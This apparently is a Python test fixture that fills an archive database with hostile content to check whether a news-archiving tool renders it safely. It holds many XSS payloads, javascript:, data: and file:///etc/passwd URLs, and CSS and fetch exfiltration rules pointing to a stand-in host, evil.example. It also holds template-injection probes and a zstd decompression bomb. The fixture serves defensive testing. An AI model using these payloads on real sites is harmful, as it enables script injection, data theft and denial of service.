"""What a hostile newspaper can write: vectors for every place of an archive, and an archive that holds them all."""

import sqlite3
import sys
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archive import Archive, Discovery
from archive.browse.pages.search import CLOSE, OPEN
from extractors import Article, LinkList, ListItem, Page

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

START = datetime(2026, 11, 20, 8, tzinfo=UTC)
EVIL = "https://evil.example"
VERSIONS = 10_000
LONG = 7_000_000

WORDS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "script in odd letters": "<ScRiPt >alert(1)</sCrIpT >",
    "end of title": "</title><script>alert(1)</script>",
    "end of text area": "</textarea><script>alert(1)</script>",
    "end of style": "</style><script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "end of comment": "--><script>alert(1)</script><!--",
    "end of CDATA": "]]><script>alert(1)</script>",
    "picture": f"<img src={EVIL}/a.png onerror=alert(1)>",
    "end of attribute": '"><img src=x onerror=alert(1)>',
    "attribute in single quotes": "' onmouseover='alert(1)' x='",
    "attribute in double quotes": '" autofocus onfocus="alert(1)" x="',
    "SVG that loads": "<svg onload=alert(1)></svg>",
    "SVG with a script": "<svg><script>alert(1)</script></svg>",
    "SVG that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "SVG from elsewhere": f'<svg><use href="{EVIL}/s.svg#x"/><image href="{EVIL}/i.png"/></svg>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with its own page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": f"<embed src={EVIL}/x>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/x.css>",
    "import": f"<style>@import '{EVIL}/c.css';</style>",
    "exfiltration": f"<style>input[value^=f]{{background:url({EVIL}/f)}} body{{background:url({EVIL}/b)}}</style>",
    "base": f"<base href={EVIL}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    "form": f"<form action={EVIL}/><input name=q><button autofocus>x</button></form>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video": f"<video src={EVIL}/v poster={EVIL}/p onerror=alert(1)></video>",
    "body": "<body onload=alert(1) background=x>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "link": "<a href='javascript:alert(1)' autofocus>click</a>",
    "template": "{{ 7 * 7 }} {% raw %}{{ cycler.__init__.__globals__ }} ${7*7} <%= 7*7 %>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "marks of a snippet": f"{OPEN}<img src=x onerror=alert(1)>{CLOSE}{CLOSE}</mark>",
    "bidi override": "harmless \u202etpircs\u202d gpj.exe \u2066\u2067\u2068 never closed",
    "separators": "one\u2028two\u2029three\u0085four\ufefffive\u00adsix\u200bseven",
    "combining": "Z" + "\u0351\u0327\u0335" * 400,
    "no spaces": "A" * 60_000,
}
"""Text that stands, each in an article of its own, in title, byline, section, text, tags, and in a list beside it."""

URLS: dict[str, str] = {
    "javascript": "javascript:alert(1)",
    "javascript in odd letters": "JaVaScRiPt:alert(1)",
    "javascript with a tab": "java\tscript:alert(1)",
    "javascript after a control": "\x01javascript:alert(1)",
    "javascript after a host": "javascript://news.example/%0aalert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "blob": f"blob:{EVIL}/0",
    "file": "file:///etc/passwd",
    "view-source": f"view-source:{EVIL}/",
    "no scheme": "//evil.example/x",
    "attribute": f'{EVIL}/"onmouseover="alert(1)"x="',
    "element": f"{EVIL}/'><script>alert(1)</script>",
    "password": "https://news.example:x@evil.example/",
    "override": "https://news.example/\u202egpj.exe",
    "broken": "https://[evil",
}
"""Addresses that a list item leads to and a page calls its canonical one."""

_HEAD = "<!doctype html><meta charset=utf-8><title>x</title>"
PAGES: dict[str, str] = {
    "script": "<script>alert(1);fetch('https://evil.example/f')</script>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{EVIL}/a.js"}}}}</script>',
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{EVIL}/s"]}}]}}</script>',
    "worker": "<script>new Worker('data:,1');navigator.serviceWorker.register('/x.js')</script>",
    "top": f"<script>top.location='{EVIL}/';window.open('{EVIL}/o')</script>",
    "handlers": "<body onload=alert(1)><img src=x onerror=alert(1)><input autofocus onfocus=alert(1)>",
    "javascript link": "<a href=javascript:alert(1) autofocus>x</a><iframe src=javascript:alert(1)></iframe>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/r">',
    "refresh to data": '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
    "form": f"<form id=f action={EVIL}/form method=post><button>x</button></form><script>f.submit()</script>",
    "frames": f"<iframe src={EVIL}/i></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><frame src={EVIL}>",
    "plug-ins": f"<object data={EVIL}/o></object><embed src={EVIL}/e><applet code={EVIL}/a></applet>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/c.css>",
    "import": f"<style>@import url({EVIL}/i.css); @import '{EVIL}/j.css';</style>",
    "exfiltration": f"<style>input[value^=s]{{background:url({EVIL}/s)}}</style><input value=secret>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff2)}} *{{font-family:x}}</style>text",
    "pictures of CSS": f"<style>body{{background:image-set(url({EVIL}/b) 1x);cursor:url({EVIL}/c),auto}}"
    f"li{{list-style:url({EVIL}/l)}} p::before{{content:url({EVIL}/p)}}</style><p><li>x",
    "SVG": f"<svg><image href={EVIL}/i /><use href={EVIL}/u#x /><script>alert(1)</script>"
    f"<filter><feImage href={EVIL}/f /></filter></svg>",
    "hints": f"<link rel=preload as=script href={EVIL}/p><link rel=prefetch href={EVIL}/q>"
    f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href={EVIL}><link rel=modulepreload href={EVIL}/m>",
    "media": f"<video src={EVIL}/v poster={EVIL}/p autoplay></video><audio src={EVIL}/a autoplay></audio>"
    f"<video><source src={EVIL}/s><track src={EVIL}/t default></video>",
    "pictures": f"<img src={EVIL}/i srcset='{EVIL}/2 2x'><picture><source srcset={EVIL}/3><img></picture>"
    f"<input type=image src={EVIL}/4><table background={EVIL}/5><td>x</table>",
    "base": f"<base href={EVIL}/><img src=relative.png><a href=relative>x</a>",
    "ping": f"<a href=/ ping={EVIL}/ping target=_top id=l autofocus>x</a><script>l.click()</script>",
    "head": f"<link rel=icon href={EVIL}/i><link rel=manifest href={EVIL}/m><html manifest={EVIL}/a>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    "<script>alert(1)</script>",
    "UTF-7": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "escapes": "\x1b$B<script>alert(1)</script>\x1b(B \x00<\x00script>alert(1)</script>",
    "deep": "<div>" * 20_000 + "deep",
    "dialog": f"<dialog open><form method=dialog action={EVIL}><button autofocus>x</dialog><fencedframe></fencedframe>",
}
"""Bodies of pages."""

COUNT = len(WORDS) + len(URLS) + len(PAGES) + 4
"""All vectors: those above, a text and a page of 7 MB, a body that unpacks to a gigabyte, 10,000 versions."""


@dataclass(frozen=True)
class Hostile:
    """The archive's file and the addresses of its pages, after the database's name; some show links and buttons."""

    path: Path
    pages: tuple[str, ...]
    clickable: tuple[str, ...]


def make(path: Path) -> Hostile:
    """An archive of all vectors."""
    with Archive(path) as kept, kept.atomic():
        kept.site("evil", "javascript:alert(1)")
        kept.site("<b onclick=alert(1)>", f'{EVIL}/"x')
        run = kept.start_run("crawl")
        for number, (name, said) in enumerate(WORDS.items()):
            _article(kept, f"https://news.example/w/{number}", said, f"{EVIL}/{name}", number)
        for number, (name, url) in enumerate(URLS.items()):
            _article(kept, f"https://news.example/u/{number}", f"Address: {name}", url, 100 + number)
        for number, body in enumerate(PAGES.values()):
            _page(kept, f"https://news.example/p/{number}", f"{_HEAD}<p>Seen.</p>{body}", 200 + number)
        url = f'https://news.example/a"><script>alert(1)</script>?q={"x" * 1500}'
        kept.discover([Discovery(url=url, site="evil", kind="feed", found_in="javascript:alert(1)")], run)
        long = "long words of a text that goes on " * (LONG // 34)
        for hour, end in enumerate(("", " and has another end.")):
            page = Page(url="https://news.example/long", body=f"{long}{end}".encode(), fetched_at=_at(300 + hour))
            kept.save(page, Article(title="Long", text=long + end, rules="t"), site="evil")
        _page(
            kept, "https://news.example/long-page", f"{_HEAD}{'<p>One paragraph of very many.</p>' * (LONG // 34)}", 310
        )
        _page(kept, "https://news.example/bomb", f"{_HEAD}bomb", 320)
        for hour, text in enumerate(("One text.", "Another text.")):
            page = Page(url="https://news.example/many", body=text.encode(), fetched_at=_at(330 + hour))
            kept.save(page, Article(title="Many", text=text, rules="t"), site="evil")
    with closing(sqlite3.connect(path)) as db:
        _bomb(db)
        _many_versions(db)
        db.commit()
        return Hostile(path=path, pages=tuple(_pages(db)), clickable=tuple(_clickable(db)))


def _at(minutes: int) -> datetime:
    return START + timedelta(minutes=minutes)


def _article(kept: Archive, url: str, said: str, link: str, minutes: int) -> None:
    """One article in two versions that says it everywhere."""
    items = tuple(
        ListItem(title=title, url=link, teaser=said, section=said[:300], when_text=said[:100])
        for title in (said, "Promoted everywhere")
    )
    for step, more in enumerate(("", " It was edited since.")):
        article = Article(
            title=f"{said} {'now' if more else ''}", text=f"Flood: {said}\n\n{said}{more}", authors=(said,),
            tags=(said,), section=said[:300], language="en", canonical_url=link, rules="test/1",
            lists=(LinkList(heading=said[:300], kind="recent", items=items),),
        )  # fmt: skip
        page = Page(url=url, body=f"{minutes} {step}".encode(), fetched_at=_at(minutes + 1000 * step))
        kept.save(page, article, site="evil")


def _page(kept: Archive, url: str, body: str, minutes: int) -> None:
    page = Page(url=url, body=body.encode(), fetched_at=_at(minutes), headers=(("content-type", "text/html"),))
    kept.save(page, Article(title=f"Page {minutes}", text="Seen.", rules="test/1"), site="evil")


def _bomb(db: sqlite3.Connection) -> None:
    """In place of a body: 32 kB that unpack to a gigabyte."""
    (key,) = db.execute(
        "SELECT v.raw_key FROM versions v JOIN articles a ON a.id = v.article WHERE a.url = 'https://news.example/bomb'"
    ).fetchone()
    packer = zstd.ZstdCompressor()
    chunk = bytes(2**24)
    frame = b"".join([*(packer.compress(chunk) for _ in range(64)), packer.flush()])
    db.execute("UPDATE raw_bodies SET body = ? WHERE key = ?", (frame, key))


def _many_versions(db: sqlite3.Connection) -> None:
    """Ten thousand versions of one article that goes back and forth between two texts."""
    (article,) = db.execute("SELECT id FROM articles WHERE url = 'https://news.example/many'").fetchone()
    rows = db.execute("SELECT text_key, raw_key, folded FROM versions WHERE article = ? ORDER BY number", (article,))
    two = rows.fetchall()
    for number in range(3, VERSIONS + 1):
        text_key, raw_key, folded = two[(number - 1) % 2]
        at = (_at(400 + number)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
        made = db.execute(
            "INSERT INTO versions(article, number, text_key, raw_key, first_seen, last_seen, words_added, "
            "words_removed, kinds, rules, folded) VALUES (?, ?, ?, ?, ?, ?, 1, 1, '[\"flip-flop\"]', 't', ?)",
            (article, number, text_key, raw_key, at, at, folded),
        )
        db.execute(
            "INSERT INTO events(article, version, at, kind, weight, detail) VALUES (?, ?, ?, 'flip-flop', 4, '{}')",
            (article, made.lastrowid, at),
        )
    db.execute(
        "UPDATE articles SET version_count = :most, "
        "latest_version = (SELECT max(id) FROM versions WHERE article = :id) WHERE id = :id",
        {"most": VERSIONS, "id": article},
    )


def _pages(db: sqlite3.Connection) -> Iterator[str]:
    """Addresses after ``/-/presskeep/DATABASE``: general ones, and those of each article and body."""
    yield from ("", "/edits", "/edits?kind=headline", "/headlines", "/headlines?site=evil", "/coverage", "/search")
    yield from (
        f"/search?q={word}" for word in ("flood", "flood&where=lists", "everywhere&where=lists", "%3Cscript%3E")
    )
    rows = db.execute(
        "SELECT a.url, a.key, v.raw_key, f.text_key, v.text_key FROM articles a "
        "JOIN versions v ON v.id = a.latest_version JOIN versions f ON f.article = a.id AND f.number = 1 ORDER BY a.url"
    )
    for url, key, raw_key, first, last in rows.fetchall():
        kind = url.removeprefix("https://news.example/").partition("/")[0]
        if kind != "p":
            yield f"/article/{key}"
        if kind in ("w", "long", "many"):
            yield f"/diff/{key}/{first}/{last}{'?view=side' if len(key) % 2 else ''}"
        if kind in ("p", "long-page", "bomb"):
            yield from (f"/raw/{raw_key}", f"/raw/{raw_key}/document")
        if kind in ("long-page", "bomb") or url.endswith("0"):
            yield f"/seen/{raw_key}"


def _clickable(db: sqlite3.Connection) -> Iterator[str]:
    for number, body in enumerate(PAGES.values()):
        if "<a " in body or "<button" in body:
            sql = "SELECT v.raw_key FROM versions v JOIN articles a ON a.id = v.article WHERE a.url = ?"
            (raw_key,) = db.execute(sql, (f"https://news.example/p/{number}",)).fetchone()
            yield f"/raw/{raw_key}"
